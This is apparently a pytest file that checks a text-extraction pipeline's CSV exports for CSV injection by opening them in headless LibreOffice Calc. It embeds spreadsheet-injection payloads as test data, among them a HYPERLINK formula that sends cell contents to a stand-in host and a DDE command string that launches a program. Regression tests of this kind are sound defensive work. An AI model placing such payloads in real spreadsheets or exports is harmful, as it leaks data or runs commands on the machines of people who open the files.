"""The CSV outputs open in LibreOffice Calc with no formula cell (issue 13, CSV injection).

An article and reviews whose text starts with ``=``, ``+``, ``-``, ``@`` reach every text column of
claims.csv, mentions.csv, conflicts.csv and unclaimed.csv; headless ``soffice --convert-to fods``
converts each file with Calc's default CSV import, and every cell must come out as text or a number.
Needs LibreOffice (``apt-get install libreoffice-calc``): without it the Calc test skips and says so
(and fails instead when ``REQUIRE_LIBREOFFICE=1``, for CI).
"""

from __future__ import annotations

import csv
import os
import re
import shutil
import subprocess
from decimal import Decimal
from pathlib import Path

import pytest

from pipeline import consolidate, extract, normalize
from pipeline.extract import Extractor, default_extractor
from pipeline.types import Mention

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1;"click")',
    "+SUM(1;2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1;1)",
    "=1+1",
]
ARTICLE = "\n".join(
    [
        "Harbour figures",
        "",
        f"{HOSTILE[0]} The terminal employs 310 workers.",
        f"{HOSTILE[1]} The depot keeps 42 tractors.",
        f"{HOSTILE[2]} The fleet lost 5 barges in 2019.",
        f"{HOSTILE[3]} The quay is 800 metres long.",
        f"{HOSTILE[4]} Tolls rose in 2018.",
    ]
)


def _mention(doc: str, value: str, measure: str, entity: str, start: int) -> Mention:
    return Mention(
        doc=doc,
        start=start,
        end=start + 3,
        quote=value,
        value=Decimal(value),
        unit="worker",
        qualifier="=",
        kind="count",
        measure=measure,
        entity=entity,
        year=2021,
        year_source="explicit",
        aspect="level",
        confidence=0.9,
        rule=HOSTILE[3],
        why=HOSTILE[1],
        sentence=HOSTILE[0],
    )


@pytest.fixture(scope="module")
def extractor() -> Extractor:
    return default_extractor()


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory, extractor: Extractor) -> Path:
    """The four CSVs: the stages on the hostile article, plus a conflict between hostile entities."""
    from pipeline.unclaimed import read_mention_spans, run, write_unclaimed

    tmp = tmp_path_factory.mktemp("calc")
    seeds, out = tmp / "seeds", tmp / "out"
    seeds.mkdir()
    out.mkdir()
    (seeds / "=cmd.txt").write_text(ARTICLE, encoding="utf-8")
    docs, _ = normalize.run(sorted(seeds.iterdir()), normalize.default_rule_set(ROOT / "rules"), 2_000_000)
    pairs = [(doc, extract.read_raw(doc, seeds)) for doc in docs]
    found = list(extract.run(pairs, extractor))
    # two docs that disagree, whose entity and measure are formulas: a conflict row for each
    found += [_mention("-a", "-5", HOSTILE[4], HOSTILE[2], 0), _mention("-b", "7", HOSTILE[4], HOSTILE[2], 0)]
    with open(out / "mentions.csv", "w", encoding="utf-8", newline="") as fh:
        extract.write_mentions(found, fh)
    reviews = consolidate.parse_reviews("claim_id,decision,note\n")
    result = consolidate.run(consolidate.read_mentions(out / "mentions.csv"), reviews)
    (out / "claims.csv").write_text(result.claims_csv(), encoding="utf-8")
    (out / "conflicts.csv").write_text(result.conflicts_csv(), encoding="utf-8")
    rows = run(pairs, read_mention_spans(out / "mentions.csv"), extractor)
    with open(out / "unclaimed.csv", "w", encoding="utf-8", newline="") as fh:
        write_unclaimed(rows, fh)
    return out


NAMES = ("claims.csv", "mentions.csv", "conflicts.csv", "unclaimed.csv")


def _cells(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def test_hostile_text_reaches_every_file(outputs: Path) -> None:
    """The test is only worth something if formula-like text really is in each file (protected)."""
    for name in NAMES:
        text = (outputs / name).read_text(encoding="utf-8")
        assert "'=" in text or "'-" in text or "'+" in text or "'@" in text, name
    conflicts = _cells(outputs / "conflicts.csv")
    assert len(conflicts) >= 3  # a header and a row per side


def test_readers_take_the_protection_off(outputs: Path) -> None:
    mentions = consolidate.read_mentions(outputs / "mentions.csv")
    assert {m.sentence for m in mentions if m.doc.startswith("-")} == {HOSTILE[0]}
    assert {m.doc for m in mentions} >= {"=cmd", "-a", "-b"}
    assert {m.entity for m in mentions if m.doc in ("-a", "-b")} == {HOSTILE[2]}


def _soffice() -> str | None:
    path = shutil.which("soffice") or shutil.which("libreoffice")
    if path is None and os.environ.get("REQUIRE_LIBREOFFICE"):
        pytest.fail("REQUIRE_LIBREOFFICE is set but soffice was not found (apt-get install -y libreoffice-calc)")
    if path is None:
        pytest.skip("LibreOffice Calc not installed (apt-get install libreoffice-calc): CSV import not checked")
    return path


_CELL = re.compile(r"<table:table-cell\b([^>]*?)(?:/>|>(.*?)</table:table-cell>)", re.S)


def test_calc_opens_every_csv_with_no_formula_cell(outputs: Path, tmp_path: Path) -> None:
    soffice = _soffice()
    profile = tmp_path / "profile"  # a private profile: no clash with another soffice, no user settings
    done = subprocess.run(
        [
            str(soffice),
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            "--convert-to",
            "fods",
            "--outdir",
            str(tmp_path),
            *(str(outputs / name) for name in NAMES),
        ],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr
    for name in NAMES:
        xml = (tmp_path / name.replace(".csv", ".fods")).read_text(encoding="utf-8")
        cells = _CELL.findall(xml)
        assert len(cells) >= sum(len(row) for row in _cells(outputs / name)) // 2, name
        formulas = [attrs for attrs, _ in cells if "table:formula=" in attrs]
        assert formulas == [], f"{name}: formula cells {formulas[:3]}"
        kinds = {m.group(1) for attrs, _ in cells if (m := re.search(r'office:value-type="([^"]+)"', attrs))}
        assert kinds <= {"string", "float", "percentage"}, f"{name}: {kinds}"


def test_calc_reads_a_bare_qualifier_as_text(tmp_path: Path) -> None:
    """Why the qualifier column keeps ``=``: Calc reads a bare ``=`` (and ``>=``) as text, not a formula."""
    soffice = _soffice()
    sample = tmp_path / "q.csv"
    sample.write_text("qualifier,other\n=,>=\n~<,<=\n", encoding="utf-8")
    profile = tmp_path / "profile"
    subprocess.run(
        [str(soffice), f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to", "fods",
         "--outdir", str(tmp_path), str(sample)],
        capture_output=True, timeout=300, check=True,
    )  # fmt: skip
    xml = (tmp_path / "q.fods").read_text(encoding="utf-8")
    cells = _CELL.findall(xml)
    assert not [a for a, _ in cells if "table:formula=" in a]
    assert all('office:value-type="string"' in a for a, _ in cells if "value-type" in a)
